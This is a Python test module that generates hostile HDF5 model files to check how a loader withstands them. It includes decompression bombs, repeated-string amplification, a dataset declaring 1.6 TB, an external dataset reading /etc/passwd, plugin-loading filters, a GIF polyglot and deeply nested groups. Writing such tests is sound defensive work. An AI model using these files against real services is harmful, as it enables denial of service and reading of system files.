"""HDF5 files that cost who reads them far more than their bytes: each is written to a path."""

import json
import re
import struct
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

from tests.attacks.model_files import hdf5, plain

ZEROS = 10_000_000


def one_array_named_forty_times(path: Path) -> None:
    """130 KB → 4.7 GB: an array of 128 MB, packed, that is read once for each time that its layer names it."""

    def fill(file: h5py.File) -> None:
        dense = file["model_weights/dense"]
        dense.create_dataset("large", data=np.zeros(32 << 20, np.float32), chunks=(1 << 20,), compression="gzip")
        dense.attrs["weight_names"] = [b"large"] * 40

    hdf5(path, plain(), fill)


def one_array_named_by_many_layers(path: Path) -> None:
    """The same, and each of 40 layers names it once, by its place in the file."""

    def fill(file: h5py.File) -> None:
        weights = file["model_weights"]
        weights.create_dataset("large", data=np.zeros(32 << 20, np.float32), chunks=(1 << 20,), compression="gzip")
        weights.attrs["layer_names"] = [f"layer{place}".encode() for place in range(40)]
        for place in range(40):
            weights.create_group(f"layer{place}").attrs["weight_names"] = [b"/model_weights/large"]

    hdf5(path, plain(), fill)


def share_one_text(path: Path, place: str, name: str, times: int = 4_000) -> None:
    """Make the attribute `name` at `place` of `times` texts that are one of 2 MB in the file: 2 MB → 8 GB when read."""
    with h5py.File(path, "r+") as file:
        holder = file[place]
        if name in holder.attrs:
            del holder.attrs[name]
        holder.attrs.create(name, ["x" * (2 << 20), *map(str, range(times - 1))], dtype=h5py.string_dtype())
    content = bytearray(path.read_bytes())
    # Each element is a length, and where the text lies: the address of a heap and the number of an object in it.
    first = next(
        found.start()
        for found in re.finditer(re.escape(struct.pack("<I", 2 << 20)), content)
        if content[found.start() + 16 : found.start() + 20] == struct.pack("<I", 1)
    )
    for element in range(1, times):
        content[first + 16 * element : first + 16 * (element + 1)] = content[first : first + 16]
    path.write_bytes(content)


def card_of_one_text_many_times(path: Path) -> None:
    """2 MB → 6.8 GB in the service itself, which read the card before anything was checked."""
    hdf5(path, plain())
    share_one_text(path, "/", "model_card", 3_400)


def layer_names_of_one_text_many_times(path: Path) -> None:
    """2 MB → 6.8 GB: the names of the layers are one text of 2 MB, 3,400 times."""
    hdf5(path, plain())
    share_one_text(path, "/model_weights", "layer_names", 3_400)


def weight_names_of_one_text_many_times(path: Path) -> None:
    """The same for the names of one layer's weights."""
    hdf5(path, plain())
    share_one_text(path, "/model_weights/dense", "weight_names", 3_400)


def description_of_one_text_many_times(path: Path) -> None:
    """The same for the description of the model."""
    hdf5(path, plain())
    share_one_text(path, "/", "model_config", 3_400)


def attributes_of_another_kind(path: Path) -> None:
    """Names of layers that are numbers: an AttributeError in whoever expects texts."""
    hdf5(path, plain(), lambda file: file["model_weights"].attrs.update(layer_names=np.arange(5)))


def names_that_are_no_text(path: Path) -> None:
    """Names that are no UTF-8."""
    hdf5(path, plain(), lambda file: file["model_weights"].attrs.update(layer_names=[b"\xff\xfe"]))


def array_of(dtype: Any, data: Any, **more: Any) -> Callable[[Path], None]:
    """A file with one more array, of a type that no weight has."""

    def write(path: Path) -> None:
        hdf5(path, plain(), lambda file: file.create_dataset("model_weights/dense/odd", data=data, dtype=dtype, **more))

    return write


def filtered_by(number: int) -> Callable[[Path], None]:
    """A file with an array packed by the filter of that number: HDF5 loads a library from HDF5_PLUGIN_PATH for it."""

    def write(path: Path) -> None:
        def fill(file: h5py.File) -> None:
            settings = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
            settings.set_chunk((4,))
            settings.set_filter(number, h5py.h5z.FLAG_OPTIONAL, (0,) * 20)
            space = h5py.h5s.create_simple((4,))
            h5py.h5d.create(file["model_weights/dense"].id, b"packed", h5py.h5t.IEEE_F32LE, space, dcpl=settings)

        hdf5(path, plain(), fill)

    return write


def packed_zeros(times: int) -> bytes:
    """`times` ZEROS as zlib packs them, made of one piece that is repeated."""
    packer = zlib.compressobj(1, wbits=-zlib.MAX_WBITS)
    piece, end = packer.compress(bytes(ZEROS)) + packer.flush(zlib.Z_FULL_FLUSH), packer.flush()
    checksum = (times * ZEROS % 65_521) << 16 | 1
    return b"\x78\x01" + piece * times + end + struct.pack(">I", checksum)


def chunk_larger_than_its_array(path: Path) -> None:
    """10 numbers in a piece of 2 GB, packed to 9 MB: HDF5 unpacks the whole of it to read them."""

    def fill(file: h5py.File) -> None:
        count = 500_000_000
        array = file.create_dataset(
            "model_weights/dense/odd", (10,), "f4", maxshape=(None,), chunks=(count,), compression="gzip"
        )
        array.id.write_direct_chunk((0,), packed_zeros(count * 4 // ZEROS))

    hdf5(path, plain(), fill)


def declared_and_not_there(path: Path) -> None:
    """2 KB that declare 1.6 TB of zeros (CVE-2026-0897, CVE-2026-12570)."""
    hdf5(path, plain(), lambda file: file.create_dataset("model_weights/dense/odd", (400_000_000_000,), "f4"))


def lying_elsewhere(path: Path) -> None:
    """An array whose bytes are those of another file (CVE-2026-1669)."""
    hdf5(path, plain(), lambda file: file.create_dataset("model_weights/dense/odd", (4,), "u1", external="/etc/passwd"))


def put_together_from_elsewhere(path: Path) -> None:
    """An array that is put together from those of other HDF5 files (CVE-2026-12480)."""
    layout = h5py.VirtualLayout((4,), "f4")
    layout[:] = h5py.VirtualSource("/etc/elsewhere.h5", "values", (4,))
    hdf5(path, plain(), lambda file: file.create_virtual_dataset("model_weights/dense/odd", layout))


def linked(link: Any) -> Callable[[Path], None]:
    """A file with a link in the place of a weight."""

    def write(path: Path) -> None:
        hdf5(path, plain(), lambda file: file["model_weights/dense"].update(odd=link))

    return write


def behind_a_user_block(path: Path) -> None:
    """HDF5 whose signature stands behind 512 bytes of anything: of another format, for whoever looks at those."""
    with h5py.File(path, "w", userblock_size=512) as file:
        file.attrs["model_config"] = json.dumps(plain())
    content = bytearray(path.read_bytes())
    content[:6] = b"GIF89a"
    path.write_bytes(content)


def groups_one_in_another(path: Path, count: int = 10_000) -> None:
    """10 MB → minutes: 10,000 groups, one in another, whose whole path is put together for each."""

    def fill(file: h5py.File) -> None:
        group = file["model_weights"]
        for _ in range(count):
            group = group.create_group("g")

    hdf5(path, plain(), fill)


def very_many_groups(path: Path, count: int = 30_000) -> None:
    """30,000 groups in 24 MB."""

    def fill(file: h5py.File) -> None:
        for place in range(count):
            file["model_weights"].create_group(str(place))

    hdf5(path, plain(), fill)
